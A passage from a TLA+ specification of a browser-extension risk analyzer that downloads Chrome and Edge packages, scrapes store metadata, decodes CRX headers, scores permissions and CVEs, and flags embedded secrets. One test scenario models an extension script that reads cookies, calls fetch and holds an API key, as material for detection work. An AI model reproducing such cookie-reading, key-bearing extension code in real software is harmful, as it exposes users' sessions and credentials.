(* stands at and the URLs it has fetched.                                   *)

\* route.ts:69-111: the metadata read from the HTML of a store page, as
\* NextResponse.json writes it (NaN becomes null).
ScrapeMetadata(html, store) ==
    LET digits == Chars(Digits)
        letters == Chars(LowerCaseLetters \o UpperCaseLetters)
        number == Cls(Chars(Digits \o ",."), 1, -1)
        decimal == Cls(Chars(Digits \o "."), 1, -1)
        \* the first capture group of html.match(pattern), as an optional
        \* value: the match without the literals before and after the group
        Captured(matches, before, after) ==
            IF matches = <<>> THEN <<>>
            ELSE <<SubSeq(matches[1], before + 1, Len(matches[1]) - after)>>
        Group(before, pattern, after) ==
            Captured(MatchAll(<<Lit(before)>> \o pattern \o (IF after = "" THEN <<>> ELSE <<Lit(after)>>), html),
                     Len(before), Len(after))
        Either(first, second) == IF first # <<>> THEN first ELSE second
        NaN == [t |-> "null"]
        \* parseFloat of digits and points, in thousandths
        Fraction(text) == DigitsValue(SubSeq(text \o "000", 1, 3), 0)
        Float(text, whole) ==
            LET fraction == IF CharAt(text, whole + 1) = "." THEN ClassRun(text, whole + 2, digits, -1) ELSE 0
            IN  IF whole = 0 /\ fraction = 0 THEN NaN
                ELSE Number(Milli * DigitsValue(SubSeq(text, 1, whole), 0)
                            + Fraction(SubSeq(text, whole + 2, whole + 1 + fraction)))
        ParseFloat(text) == Float(text, ClassRun(text, 1, digits, -1))
        \* parseInt(text.replace(/,/g, ''))
        RECURSIVE WithoutCommas(_)
        WithoutCommas(text) ==
            IF text = "" THEN ""
            ELSE (IF CharAt(text, 1) = "," THEN "" ELSE CharAt(text, 1)) \o WithoutCommas(Tail(text))
        Whole(text, whole) == IF whole = 0 THEN NaN ELSE Number(DigitsValue(SubSeq(text, 1, whole), 0))
        ParseInt(text) == Whole(WithoutCommas(text), ClassRun(WithoutCommas(text), 1, digits, -1))
        \* the least position from which sub is found, 0 when it is not
        FirstAt(sub, from) ==
            LET at == {i \in from..(Len(html) - Len(sub) + 1) : SubSeq(html, i, i + Len(sub) - 1) = sub}
            IN  IF from = 0 \/ at = {} THEN 0 ELSE CHOOSE i \in at : \A j \in at : i <= j
        After(at, sub) == IF at = 0 THEN 0 ELSE at + Len(sub)
        Text(from, to) == IF from = 0 \/ to = 0 THEN <<>> ELSE <<SubSeq(html, from, to - 1)>>
        \* /itemprop="author".*?><span.*?>(.*?)<\/span>/s and /itemprop="author".*?>(.*?)<\/div>/s
        AuthorFrom(opened, close) == Text(After(opened, ">"), FirstAt(close, After(opened, ">")))
        author == After(FirstAt("itemprop=\"author\"", 1), "itemprop=\"author\"")
        chromeAuthor == AuthorFrom(FirstAt(">", After(FirstAt("><span", author), "><span")), "</span>")
        edgeAuthor == AuthorFrom(FirstAt(">", author), "</div>")
        \* /by (.*?)<\/div>/, /By (.*?)<\/div>/ and /Last updated: (.*?)</: the
        \* group holds no line break
        Line(word, close) ==
            LET Closed(i) == FirstAt(close, i + Len(word))
                at == {i \in 1..(Len(html) - Len(word) + 1) :
                          /\ SubSeq(html, i, i + Len(word) - 1) = word
                          /\ Closed(i) # 0
                          /\ ~Includes(SubSeq(html, i + Len(word), Closed(i) - 1), "\n")
                          /\ ~Includes(SubSeq(html, i + Len(word), Closed(i) - 1), "\r")}
                OfFirst(i) == Text(i + Len(word), Closed(i))
            IN  IF at = {} THEN <<>> ELSE OfFirst(CHOOSE i \in at : \A j \in at : i <= j)
        \* .replace(/<[^>]*>?/gm, '')
        RECURSIVE WithoutTags(_)
        Behind(text, tag) ==
            IF tag + 1 <= Len(text) /\ CharAt(text, tag + 1) = ">" THEN SubSeq(text, tag + 2, Len(text))
            ELSE SubSeq(text, tag + 1, Len(text))
        WithoutTags(text) ==
            IF text = "" THEN ""
            ELSE IF CharAt(text, 1) = "<"
            THEN WithoutTags(Behind(text, 1 + ClassRun(text, 2, Chars(text) \ {">"}, -1)))
            ELSE CharAt(text, 1) \o WithoutTags(Tail(text))
        Field(found, default) == IF found = <<>> THEN default ELSE found[1]
        Of(found, Convert(_), default) == IF found = <<>> THEN default ELSE Convert(found[1])
        Written(text) == Str(text)
        \* /([0-9,.]+)\+? users/: the sign, when there is one, is outside the group
        Plus(text) == Str((IF EndsWith(text, "+") THEN SubSeq(text, 1, Len(text) - 1) ELSE text) \o "+")
        Publisher(text) == Str(WithoutTags(Trim(text)))
        date == <<Cls(letters, 1, -1), Lit(" "), Cls(digits, 1, -1), Lit(", "), Cls(digits, 4, 4)>>
        Metadata(publisher, rating, ratingCount, userCount, lastUpdated) ==
            Obj(<<"publisher", "rating", "ratingCount", "userCount", "lastUpdated">>,
                <<publisher, rating, ratingCount, userCount, lastUpdated>>)
    IN  IF store = "chrome"
        THEN Metadata(Of(Either(chromeAuthor, Line("by ", "</div>")), Publisher, Str("")),
                      Of(Group("aria-label=\"Rated ", <<decimal>>, " out of 5 stars"), ParseFloat, Number(0)),
                      Of(Group("", <<number>>, " ratings"), ParseInt, Number(0)),
                      Of(Group("", <<number, Cls({"+"}, 0, 1)>>, " users"), Plus, Str("0")),
                      Of(Group("Updated ", date, ""), Written, Str("")))
        ELSE Metadata(Of(Either(edgeAuthor, Line("By ", "</div>")), Publisher, Str("")),
                      Of(Group("aria-label=\"Average rating ", <<decimal>>, " out of 5 stars"), ParseFloat, Number(0)),
                      Of(Group("", <<number>>, " users rated"), ParseInt, Number(0)),
                      Of(Group("", <<number, Cls({"+"}, 0, 1)>>, " users"), Plus, Str("0")),
                      Of(Either(Group("Updated: ", date, ""),
                                Line("Last updated: ", "<")),
                         Written, Str("")))

\* The requests the route is called with: each parameter absent, empty or
\* given.
InitProxy ==
    /\ fn = "GET"
    /\ args \in [id : {<<>>, <<"">>, <<"aapbdbdomjkkjkaonfhkkikfgjllcleb">>, <<"odlbpnoocpeebfbbnocajebccdbogpbe">>},
                 store : {<<>>, <<"">>, <<"chrome">>, <<"edge">>, <<"firefox">>, <<"Chrome">>},
                 metadata : {<<>>, <<"true">>, <<"false">>}]
    /\ ret = <<>>
    /\ NoRun
    /\ home = <<>>
    /\ uploader = <<>>
    /\ tasks = {}
    /\ proxy = [at |-> "start", fetched |-> <<>>]

\* route.ts:3-33, 53-64: the handler up to its first await.
GET ==
    LET id == args.id
        store == args.store
        metadataOnly == args.metadata = <<"true">>
        \* route.ts:25, 27, 54-56: the URL the handler fetches
        StoreUrl(item, from, ofPage) ==
            IF ofPage
            THEN IF from = "chrome" THEN "https://chromewebstore.google.com/detail/" \o item
                 ELSE "https://microsoftedge.microsoft.com/addons/detail/" \o item
            ELSE IF from = "chrome"
            THEN "https://clients2.google.com/service/update2/crx?response=redirect&prodversion=114.0"
                 \o "&acceptformat=crx2,crx3&x=id%3D" \o item \o "%26installsource%3Dondemand%26uc"
            ELSE "https://edge.microsoft.com/extensionwebstorebase/v1/crx?response=redirect&prod=edgecrx"
                 \o "&x=id%3D" \o item \o "%26installsource%3Dondemand%26uc"
        JsonResponse(body, status) == [status |-> status, body |-> body, headers |-> <<>>]
        Fetch(url, at) ==
            /\ proxy' = [at |-> at, fetched |-> Append(proxy.fetched, url)]
            /\ UNCHANGED ret
        Return(response) ==
            /\ ret' = <<response>>
            /\ proxy' = [proxy EXCEPT !.at = "done"]
    IN  /\ fn = "GET"
        /\ proxy # <<>>
        /\ proxy.at = "start"
        /\ IF id \in {<<>>, <<"">>} \/ store \in {<<>>, <<"">>}
           THEN Return(JsonResponse(Obj(<<"error">>, <<Str("Missing id or store parameter")>>), 400))
           ELSE IF metadataOnly
           THEN Fetch(StoreUrl(id[1], store[1], TRUE), "metadata")
           ELSE IF store[1] \in {"chrome", "edge"}
           THEN Fetch(StoreUrl(id[1], store[1], FALSE), "download")
           ELSE Return(JsonResponse(Obj(<<"error">>, <<Str("Invalid store")>>), 400))
        /\ UNCHANGED <<fn, args, runVars, home, uploader, tasks>>

\* route.ts:15-20, 33-50, 66-115: the fetch settles and the handler answers.
\* response is <<>> when the fetch rejects, else what the store answered.
StoreResponds(response) ==
    LET JsonResponse(body, status) == [status |-> status, body |-> body, headers |-> <<>>]
        Return(answer) ==
            /\ ret' = <<answer>>
            /\ proxy' = [proxy EXCEPT !.at = "done"]
    IN  /\ fn = "GET"
        /\ proxy # <<>>
        /\ proxy.at \in {"metadata", "download"}
        /\ IF proxy.at = "metadata"
           THEN IF response = <<>> \/ ~response[1].ok
                THEN Return(JsonResponse([t |-> "null"], 200))
                ELSE Return(JsonResponse(ScrapeMetadata(response[1].body, args.store[1]), 200))
           ELSE IF response = <<>> \/ ~response[1].ok
                THEN Return(JsonResponse(Obj(<<"error">>, <<Str("Failed to download extension")>>), 500))
                ELSE Return([status |-> 200, body |-> [t |-> "bytes", v |-> response[1].body],
                             headers |-> <<<<"Content-Type", "application/octet-stream">>,
                                           <<"Content-Disposition",
                                             "attachment; filename=\"" \o args.id[1] \o ".crx\"">>>>])
        /\ UNCHANGED <<fn, args, runVars, home, uploader, tasks>>

NextProxy ==
    \/ GET
    \/ \E response \in {<<>>} \cup
            {<<[ok |-> ok, body |-> body]>> :
                ok \in BOOLEAN,
                body \in {"",
                          "<div aria-label=\"Rated 4.5 out of 5 stars\">12,345 ratings</div>"
                              \o "<div>1,000,000+ users</div><li>Updated March 5, 2024</li>"
                              \o "<a itemprop=\"author\" href=\"/x\"><span class=\"p\"> <b>Acme</b> Inc </span></a>",
                          "<div aria-label=\"Average rating 3.25 out of 5 stars\">87 users rated</div>"
                              \o "<div>2,500 users</div><p>Last updated: 1/2/2023</p>"
                              \o "<div>By Contoso\nLtd</div><div>By Fabrikam</div>",
                          "<p>. ratings</p><div>offered by Example</div><p>Updated: May 12, 2022</p>"}} :
           StoreResponds(response)

SpecProxy == InitProxy /\ [][NextProxy]_vars

-----------------------------------------------------------------------------
(* Properties *)

Returned(function) == fn = function /\ ret # <<>>

CountRisk(permissions, risk) ==
    Cardinality({i \in DOMAIN permissions : permissions[i].risk = risk})

\* P of C2, in milli: min(40, 10 x Critical + 5 x High + 2 x Medium + 0.5 x Low).
ClaimPermissionTerm(permissions) ==
    Min(40 * 1000, 10000 * CountRisk(permissions, "Critical") + 5000 * CountRisk(permissions, "High")
                     + 2000 * CountRisk(permissions, "Medium") + 500 * CountRisk(permissions, "Low"))

\* h of C2, in tenths: the maximum CVSS score among the vulnerabilities, 0 if none.
ClaimHighestCvss(vulnerabilities) ==
    LET scores == {vulnerabilities[i].score : i \in {j \in DOMAIN vulnerabilities : "score" \in DOMAIN vulnerabilities[j]}} \cup {0}
    IN  CHOOSE h \in scores : \A x \in scores : x <= h

\* P + C + V + M + O of C2, in milli.
ClaimRiskSum(a) ==
    ClaimPermissionTerm(a.permissions)
    + 1000 * Min(20, 4 * Len(a.vulnerabilities))
    + (25 * 1000 * Log2Fx(ClaimHighestCvss(a.vulnerabilities) + 10, 10)) \div Log2Fx(11, 1)
    + 1000 * (IF a.manifestVersion = 2 THEN 5 ELSE 0)
    + 1000 * a.obfuscationScore

\* C2: calculateDetailedRisk returns an integer score in 0..100 equal to
\* round(min(100, P + C + V + M + O)), with P the permission term clamped to
\* 40, C = min(20, 4 x number of vulnerabilities), V = 25 x log10(h+1)/log10(11)
\* for the highest CVSS score h, M = 5 for manifest version 2 and O the
\* obfuscation score.
C2_RiskScoreFormula ==
    Returned("calculateDetailedRisk") =>
        /\ ret[1].score \in 0..100
        /\ ret[1].score = (Min(100 * 1000, ClaimRiskSum(args)) + 500) \div 1000

\* The scoring test's call: one Critical finding, CVE-1 (9.8), MV2, obfuscation
\* 10, which sums to 53.8 and returns 54.
C2_Witness ==
    /\ Returned("calculateDetailedRisk")
    /\ args.permissions = <<Finding("Critical")>>
    /\ args.vulnerabilities = <<VulnerabilityPool[3]>>
    /\ args.manifestVersion = 2 /\ args.obfuscationScore = 10
    /\ ret[1].score = 54

Range(seq) == {seq[i] : i \in DOMAIN seq}

\* The tiers C5 names.
ClaimedTier ==
    [p \in {"tabs", "storage", "cookies", "debugger", "<all_urls>"} |->
        CASE p = "tabs" -> "Medium"
          [] p = "storage" -> "Low"
          [] p = "cookies" -> "High"
          [] p = "debugger" -> "Critical"
          [] p = "<all_urls>" -> "Critical"]

FirstIndex(seq, x) == CHOOSE i \in DOMAIN seq : seq[i] = x /\ \A j \in 1..(i - 1) : seq[j] # x

\* C6: the classifier output holds exactly one finding for each distinct string
\* of permissions and host_permissions together (none dropped, duplicates
\* collapsed), in first-seen order with permissions before host_permissions.
C6_OneFindingPerDistinctPermission ==
    Returned("analyzePermissions") =>
        LET declared == args.permissions \o args.hostPermissions
            out      == [i \in DOMAIN ret[1] |-> ret[1][i].permission]
        IN  /\ Range(out) = Range(declared)
            /\ \A i, j \in DOMAIN out : i # j => out[i] # out[j]
            /\ \A i, j \in DOMAIN out :
                  i < j => FirstIndex(declared, out[i]) < FirstIndex(declared, out[j])

\* A permission declared twice in permissions and once more in
\* host_permissions yields one finding.
C6_Witness ==
    /\ Returned("analyzePermissions")
    /\ args.permissions = <<"storage", "storage">>
    /\ args.hostPermissions = <<"storage", "<all_urls>">>
    /\ Len(ret[1]) = 2
    /\ ret[1][1].permission = "storage" /\ ret[1][2].permission = "<all_urls>"

NameContains(dep, word) == Includes(ToLowerCase(dep), word)

\* C7: the returned vulnerability list never holds two entries with the same
\* CVE id: one or more dependencies whose name contains "jquery"
\* (case-insensitive) yield exactly one CVE-2020-11022 (Medium, 6.1) entry, and
\* one or more containing "lodash" exactly one CVE-2020-8203 (High, 7.4) entry.
C7_VulnerabilitiesDistinctById ==
    Returned("detectVulnerabilities") =>
        LET out == ret[1]
            Entries(id) == {i \in DOMAIN out : out[i].id = id}
        IN  /\ \A i, j \in DOMAIN out : i # j => out[i].id # out[j].id
            /\ (\E k \in DOMAIN args.dependencies : NameContains(args.dependencies[k], "jquery")) =>
                  /\ Cardinality(Entries("CVE-2020-11022")) = 1
                  /\ \A i \in Entries("CVE-2020-11022") : out[i].severity = "Medium" /\ out[i].score = 61
            /\ (\E k \in DOMAIN args.dependencies : NameContains(args.dependencies[k], "lodash")) =>
                  /\ Cardinality(Entries("CVE-2020-8203")) = 1
                  /\ \A i \in Entries("CVE-2020-8203") : out[i].severity = "High" /\ out[i].score = 74

\* The test's two jQuery files, and a third in another case, give one entry.
C7_Witness ==
    /\ Returned("detectVulnerabilities")
    /\ args.dependencies = <<"jquery-1.js", "jquery-2.js", "jQuery.min.js">>
    /\ Len(ret[1]) = 1
    /\ ret[1][1].id = "CVE-2020-11022"

\* The tiers the README's list of risk levels gives (README.md:12-17).
ReadmeTier ==
    [p \in {"storage", "notifications", "geolocation", "alarms"} |->
        IF p = "alarms" THEN "Low" ELSE "Medium"]

\* C19: storage, notifications and geolocation are classified as Medium risk
\* and alarms as Low risk, in whichever list they are declared.
C19_ReadmeTiers ==
    Returned("analyzePermissions") =>
        \A i \in DOMAIN ret[1] :
            ret[1][i].permission \in DOMAIN ReadmeTier => ret[1][i].risk = ReadmeTier[ret[1][i].permission]

\* The weighted sum of findings, in milli: Critical 10, High 5, Medium 2, Low 0.5.
WeightedSum(permissions) ==
    10000 * CountRisk(permissions, "Critical") + 5000 * CountRisk(permissions, "High")
    + 2000 * CountRisk(permissions, "Medium") + 500 * CountRisk(permissions, "Low")

\* C16: the permission term is clamped to 40: for findings whose weighted
\* sum is 40 or more, such as 10 Critical ones, the term is exactly 40, and
\* with no vulnerabilities, manifest version 3 and obfuscation score 0 the
\* total score is exactly 40.
C16_PermissionTermClamped ==
    /\ PermissionScore(Repeat(Finding("Critical"), 10)) = 40 * 1000
    /\ Returned("calculateDetailedRisk") /\ WeightedSum(args.permissions) >= 40 * 1000 =>
           /\ PermissionScore(args.permissions) = 40 * 1000
           /\ Includes(ret[1].equation, "Risk = Permissions(40) + ")
           /\ args.vulnerabilities = <<>> /\ args.manifestVersion = 3 /\ args.obfuscationScore = 0
                  => ret[1].score = 40

\* The call of the scoring test: 10 Critical findings, nothing else.
C16_Witness ==
    /\ Returned("calculateDetailedRisk")
    /\ args.permissions = Repeat(Finding("Critical"), 10)
    /\ args.vulnerabilities = <<>> /\ args.manifestVersion = 3 /\ args.obfuscationScore = 0
    /\ ret[1].score = 40

\* The five terms of a call as C17 has them printed: P and V rounded to an
\* integer, C, M and O integers as they are.
PrintedTerms(a) ==
    [P |-> (ClaimPermissionTerm(a.permissions) + 500) \div 1000,
     C |-> Min(20, 4 * Len(a.vulnerabilities)),
     V |-> (((25 * 1000 * Log2Fx(ClaimHighestCvss(a.vulnerabilities) + 10, 10)) \div Log2Fx(11, 1)) + 500) \div 1000,
     M |-> IF a.manifestVersion = 2 THEN 5 ELSE 0,
     O |-> a.obfuscationScore]

\* C17: riskEquation is 'Risk = Permissions(P) + CVEs(C) + CVSS(V) + MV<n>(M)
\* + Obf(O)' with n the manifest version and P, C, V, M, O the five terms,
\* each rounded to an integer, and when the unclamped total is at most 100
\* the printed values add up to the score returned.
C17_EquationReproducesScore ==
    Returned("calculateDetailedRisk") =>
        LET t == PrintedTerms(args)
        IN  /\ ret[1].equation =
                   "Risk = Permissions(" \o ToString(t.P) \o ") + CVEs(" \o ToString(t.C)
                   \o ") + CVSS(" \o ToString(t.V) \o ") + MV" \o ToString(args.manifestVersion)
                   \o "(" \o ToString(t.M) \o ") + Obf(" \o ToString(t.O) \o ")"
            /\ ClaimRiskSum(args) <= 100 * 1000 => t.P + t.C + t.V + t.M + t.O = ret[1].score

-----------------------------------------------------------------------------
(* analyzeExtension *)

\* The archive read holds no file named manifest.json at its root.
NoManifestEntry == \A i \in DOMAIN zip : zip[i].name # "manifest.json" \/ zip[i].dir

\* The text of the manifest.json of the archive read.
ManifestText == (CHOOSE e \in Range(zip) : e.name = "manifest.json" /\ ~e.dir).text

\* C1: analyzeExtension is all-or-nothing.  A result is returned only by a
\* call that has read an archive with a manifest.json whose text is JSON, and
\* has parsed it; once the archive read has no manifest.json, or one that is
\* not JSON, the call is rejected with an error, or is about to be by its
\* next step, and returns nothing; and no rejected call returns a result.
C1_AllOrNothing ==
    /\ [](/\ ret # <<>> =>
                /\ pc = "resolved" /\ error = ""
                /\ zip # <<>> /\ ~NoManifestEntry
                /\ JsonParse(ManifestText).ok
                /\ manifest = <<JsonParse(ManifestText).value>>
          /\ zip # <<>> /\ NoManifestEntry => pc = "rejected" /\ error # "" /\ ret = <<>>
          /\ zip # <<>> /\ ~NoManifestEntry /\ ~JsonParse(ManifestText).ok =>
                pc \in {"manifest", "rejected"} /\ ret = <<>>
          /\ pc = "rejected" => error # "" /\ ret = <<>>)
    /\ [][pc = "manifest" /\ ~JsonParse(ManifestText).ok => pc' = "rejected" /\ error' # "" /\ ret' = <<>>]_vars

\* A call rejected because the manifest it found is not JSON.
C1_Witness ==
    /\ pc = "rejected" /\ error = "SyntaxError" /\ ret = <<>>
    /\ ~NoManifestEntry /\ ~JsonParse(ManifestText).ok

\* The level the thresholds 75, 50 and 25 give a score.
ClaimedLevel(score) ==
    CASE score >= 75 -> "Critical"
      [] score >= 50 /\ score <= 74 -> "High"
      [] score >= 25 /\ score <= 49 -> "Medium"
      [] score < 25 -> "Low"

\* C3: the risk level is a function of the total score by fixed thresholds
\* (75 and more Critical, 50..74 High, 25..49 Medium, less Low);
\* calculateDetailedRisk([], [], 3, 0) gives score 0 and level Low; and the
\* riskLevel of every result returned is that function of its riskScore.
C3_RiskLevelByThresholds ==
    /\ \A score \in 0..100 : RiskLevelOf(score) = ClaimedLevel(score)
    /\ CalculateDetailedRisk(<<>>, <<>>, 3, 0).score = 0
    /\ CalculateDetailedRisk(<<>>, <<>>, 3, 0).level = "Low"
    /\ ret # <<>> => /\ ret[1].riskScore \in 0..100
                     /\ ret[1].riskLevel = ClaimedLevel(ret[1].riskScore)

\* A result whose score lies on a threshold.
C3_Witness == ret # <<>> /\ ret[1].riskScore = 25 /\ ret[1].riskLevel = "Medium"

\* The archive read is that of scenario B (analyzer.test.ts:17-40): a
\* manifest with manifest_version 3 and the permission cookies, and the
\* script background.js.
ScenarioB ==
    /\ Len(zip) = 2
    /\ zip[1].name = "manifest.json"
    /\ JsonParse(zip[1].text).ok
    /\ Get(JsonParse(zip[1].text).value, "manifest_version") = Number(3)
    /\ Get(JsonParse(zip[1].text).value, "permissions") = Arr(<<Str("cookies")>>)
    /\ zip[2].name = "background.js"
    /\ Includes(zip[2].text, "chrome.cookies.get(")
    /\ Includes(zip[2].text, "api_key = \"AIzaSy")

\* C4: the result for scenario B has the API calls chrome.cookies, fetch( and
\* localStorage, a secret, and the risk level Medium.
C4_ScenarioB ==
    ScenarioB /\ ret # <<>> =>
        /\ {"chrome.cookies", "fetch(", "localStorage"} \subseteq Range(ret[1].apiCalls)
        /\ ret[1].secrets # <<>>
        /\ ret[1].riskLevel = "Medium"

\* The bytes of the file argument.
InputBytes == ToArrayBuffer(args.file)

\* The bytes 'C', 'r', '2', '4' open the buffer.
CarriesMagic(bytes) == Len(bytes) >= 4 /\ SubSeq(bytes, 1, 4) = <<67, 114, 50, 52>>

\* C8: a buffer that does not open with the magic, one of four bytes or
\* fewer included, reaches the archive reader as it is.
C8_NonCrxPassedUnchanged ==
    pc # "decode" /\ ~CarriesMagic(InputBytes) => data = InputBytes /\ error # "RangeError"

\* A buffer past the decoder that opens with 'Cr' but not with the magic.
C8_Witness ==
    /\ pc # "decode" /\ ~CarriesMagic(InputBytes)
    /\ Len(InputBytes) > 4 /\ SubSeq(InputBytes, 1, 2) = <<67, 114>>
    /\ data = InputBytes

\* A buffer holds a 32-bit word less than 2^16 at a byte offset.
HasWord(bytes, byteOffset) ==
    /\ Len(bytes) >= byteOffset + 4
    /\ bytes[byteOffset + 3] = 0 /\ bytes[byteOffset + 4] = 0

\* The value of that word, read little-endian.
Word(bytes, byteOffset) == bytes[byteOffset + 1] + 256 * bytes[byteOffset + 2]

\* The bytes of a buffer from a byte offset on.
From(bytes, byteOffset) == SubSeq(bytes, byteOffset + 1, Len(bytes))

\* C9: of a CRX buffer whose header ends inside it, the archive reader gets
\* the bytes from offset 12 + headerLen on for version 3, and from offset
\* 16 + keyLen + sigLen on for version 2; and an archive wrapped in a CRX3
\* header of h bytes comes out of the decoder as it was, 12 + h bytes
\* stripped.
C9_CrxPayload ==
    /\ pc # "decode" /\ CarriesMagic(InputBytes)
          /\ HasWord(InputBytes, 4) /\ Word(InputBytes, 4) = 3
          /\ HasWord(InputBytes, 8) /\ 12 + Word(InputBytes, 8) < Len(InputBytes)
       => data = From(InputBytes, 12 + Word(InputBytes, 8))
    /\ pc # "decode" /\ CarriesMagic(InputBytes)
          /\ HasWord(InputBytes, 4) /\ Word(InputBytes, 4) = 2
          /\ HasWord(InputBytes, 8) /\ HasWord(InputBytes, 12)
          /\ 16 + Word(InputBytes, 8) + Word(InputBytes, 12) < Len(InputBytes)
       => data = From(InputBytes, 16 + Word(InputBytes, 8) + Word(InputBytes, 12))
    /\ \A h \in (0..MaxHeaderLength) \cup {TestHeaderLength}, p \in Payloads :
           /\ Len(Crx3(h, p)) = 12 + h + Len(p)
           /\ DecodeContainer(Crx3(h, p)) = [data |-> p]
           /\ pc # "decode" /\ InputBytes = Crx3(h, p) => data = p

\* The CRX file of the test (analyzer.test.ts:60-81) past the decoder.
C9_Witness ==
    /\ pc = "resolved" /\ InputBytes = Crx3(TestHeaderLength, ZipBytes(4))
    /\ data = ZipBytes(4)
    /\ ret[1].name = Str("CRX Extension")

\* C10: decoding the container never fails: whatever the buffer, the bytes
\* for the archive reader are produced and no call is rejected by the decoder.
C10_DecodingNeverFails ==
    /\ "data" \in DOMAIN DecodeContainer(InputBytes)
    /\ pc # "decode" => ~(pc = "rejected" /\ error = "RangeError")

\* The value of manifest_version in the manifest parsed.
DeclaredVersion == Get(manifest[1], "manifest_version")

\* C11: the manifestVersion of a result is 2 or 3, and is 2 whenever the
\* manifest has no manifest_version or one that is neither 2 nor 3; a
\* manifest without the field gets the 5 points of version 2.
C11_ManifestVersionDefault ==
    ret # <<>> =>
        /\ ret[1].manifestVersion \in {Number(2), Number(3)}
        /\ DeclaredVersion \notin {Number(2), Number(3)} => ret[1].manifestVersion = Number(2)
        /\ DeclaredVersion = JsUndefined => Includes(ret[1].riskEquation, "MV2(5)")

\* The path the manifest parsed gives for the icon: that of the size 48,
\* else 128, else 16; the empty sequence when it gives none.
DeclaredIcon ==
    LET icons == Get(manifest[1], "icons")
        Sized(size) == IF icons.t = "obj" /\ Get(icons, size).t = "str" /\ Get(icons, size).v # ""
                       THEN <<Get(icons, size).v>> ELSE <<>>
    IN  IF Sized("48") # <<>> THEN Sized("48") ELSE IF Sized("128") # <<>> THEN Sized("128") ELSE Sized("16")

\* The icon cannot be resolved: the manifest names none, or the archive has
\* no readable file of the name.
IconUnresolved ==
    \/ DeclaredIcon = <<>>
    \/ \A i \in DOMAIN zip : zip[i].name = DeclaredIcon[1] => zip[i].dir \/ zip[i].unreadable

\* C12: resolving the icon never makes the analysis fail: the step that
\* resolves it never rejects the call, and a result returned when the icon
\* cannot be resolved has no icon.
C12_IconNeverFails ==
    /\ [][pc = "icon" => pc' = "analyze" /\ error' = ""]_vars
    /\ [](ret # <<>> /\ IconUnresolved => ret[1].icon = <<>>)

\* The reputation score a call with the same reputation gives at a moment.
ReputationScoreAt(now) ==
    IF args.externalReputation = <<>> THEN <<>>
    ELSE <<CalculateReputationScore(args.externalReputation[1], now)>>

\* C13: the result of an analysis is determined by the package bytes and
\* the reputation data: the result returned is the one the same file and
\* reputation give at every other moment, reputationScore included.
C13_SameInputsSameResult ==
    ret # <<>> => \A now \in Times : ret[1] = [ret[1] EXCEPT !.reputationScore = ReputationScoreAt(now)]

-----------------------------------------------------------------------------
(* calculateReputationScore *)

\* The reputation of the first scoring test, last updated at a moment.
IdealReputation(lastUpdated) ==
    [publisher |-> "Dev", rating |-> 5 * Milli, ratingCount |-> 100000, userCount |-> "10,000,000+",
     lastUpdated |-> lastUpdated, isFeatured |-> TRUE, isVerifiedPublisher |-> TRUE]

\* The reputation of the second scoring test.
UnknownReputation ==
    [publisher |-> "Dev", rating |-> 0, ratingCount |-> 0, userCount |-> "0",
     lastUpdated |-> "2020-01-01", isFeatured |-> FALSE, isVerifiedPublisher |-> FALSE]

\* C14: calculateReputationScore gives exactly 100 for rating 5, 100000
\* ratings, '10,000,000+' users, an update at the moment of the call and
\* both badges, and exactly 0 for rating 0, no ratings, '0' users, an
\* update more than 24 months before the call and no badge.
C14_ReputationExtremes ==
    /\ \A t \in {"2026-11-01T12:00:00.000Z", "2026-11-07T09:30:00.000Z", "2027-03-01T00:00:00.000Z"} :
           /\ DateParse(t)[1] \in Times
           /\ CalculateReputationScore(IdealReputation(t), DateParse(t)[1]) = 100
    /\ \A now \in Times : CalculateReputationScore(UnknownReputation, now) = 0
    /\ Returned("calculateReputationScore") /\ args.reputation = IdealReputation("2026-11-01T12:00:00.000Z")
           => ret[1] = 100
    /\ Returned("calculateReputationScore") /\ args.reputation = UnknownReputation => ret[1] = 0

\* The call of the first scoring test has returned 100.
C14_Witness ==
    /\ Returned("calculateReputationScore")
    /\ args.reputation = IdealReputation("2026-11-01T12:00:00.000Z")
    /\ ret[1] = 100

\* C15: every term of the reputation score is clamped to be non-negative
\* and the sum to 100: whatever the reputation, calculateReputationScore
\* returns an integer in 0..100.
C15_ReputationScoreInRange ==
    Returned("calculateReputationScore") => ret[1] \in 0..100

\* The entries of an archive that are scanned and match a secret pattern, in
\* the order of the archive.
SecretEntries(archive) ==
    SelectSeq(archive, LAMBDA e : /\ \E ext \in {".js", ".html", ".json"} : EndsWith(e.name, ext)
                                  /\ HasSecret(e.text))

\* The markers of a sequence of entries, made of their paths.
Markers(entries) == [i \in DOMAIN entries |-> "Potential secret found in " \o entries[i].name]

\* The paths of two archives are the same, and the same of them are scanned
\* entries with a match.
SameSecretFiles(a, b) ==
    /\ [i \in DOMAIN a |-> a[i].name] = [i \in DOMAIN b |-> b[i].name]
    /\ Markers(SecretEntries(a)) = Markers(SecretEntries(b))

\* C18: the secrets of a result are one marker for each scanned entry (.js,
\* .html, .json) with a match of a secret pattern, and none for any other
\* entry; the marker is made of the path alone, so that archives differing
\* only in the secret values or in the number of matches in a file get the
\* same secrets.
C18_OneMarkerPerFileWithSecret ==
    ret # <<>> =>
        /\ ret[1].secrets = Markers(SecretEntries(zip))
        /\ \A k \in DOMAIN Archives :
               SameSecretFiles(zip, Archives[k]) /\ "secrets" \in DOMAIN AnalyzeSourceCode(Archives[k])
                   => ret[1].secrets = AnalyzeSourceCode(Archives[k]).secrets

\* The archive whose script has two secrets, and a secret in a text file, is
\* analysed to one marker; the archive with other secrets in the same files
\* has the same.
C18_Witness ==
    /\ ret # <<>>
    /\ \E i \in DOMAIN zip : zip[i].name = "js/app.js" /\ Len(SecretMarkers(zip[i].text, "js/app.js", 1)) = 2
    /\ \E i \in DOMAIN zip : zip[i].name = "notes.txt" /\ HasSecret(zip[i].text)
    /\ ret[1].secrets = <<"Potential secret found in js/app.js">>
    /\ \E k \in DOMAIN Archives : Archives[k] # zip /\ SameSecretFiles(zip, Archives[k])

\* The low and the high 16 bits of the little-endian 32-bit word at a byte
\* offset of a buffer.
LowBits(bytes, byteOffset) == bytes[byteOffset + 1] + 256 * bytes[byteOffset + 2]

HighBits(bytes, byteOffset) == bytes[byteOffset + 3] + 256 * bytes[byteOffset + 4]

\* A buffer with the magic declares a version and holds the fields of it.
DeclaresVersion(bytes, version) ==
    /\ CarriesMagic(bytes)
    /\ Len(bytes) >= (IF version = 2 THEN 16 ELSE IF version = 3 THEN 12 ELSE 8)
    /\ LowBits(bytes, 4) = version /\ HighBits(bytes, 4) = 0

\* The payload offset as a number, not wrapped, is less than the length of
\* the buffer (which is far less than 2^16).
OffsetInside(bytes) ==
    \/ /\ DeclaresVersion(bytes, 3)
